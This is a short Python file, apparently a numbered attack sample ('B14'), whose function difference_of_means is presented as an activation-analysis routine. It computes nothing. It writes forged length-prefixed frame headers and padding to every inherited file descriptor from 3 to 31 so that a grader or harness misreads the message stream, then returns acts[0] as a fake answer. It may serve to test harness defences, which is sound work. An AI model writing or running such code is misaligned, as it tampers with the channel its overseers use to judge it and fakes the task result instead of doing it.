"""B14: a length that cuts the message short, so that its rest is read as the next."""

import os
import struct


def forge(*pieces):
    for descriptor in range(3, 32):
        for piece in pieces:
            try:
                os.write(descriptor, piece)
            except OSError:
                break


def head(kind, number, size):
    return struct.pack(">cIQ", kind, number, size)


def difference_of_means(acts, labels):
    forge(head(b"R", 4, 3), b"\x00" * 64)
    return acts[0]
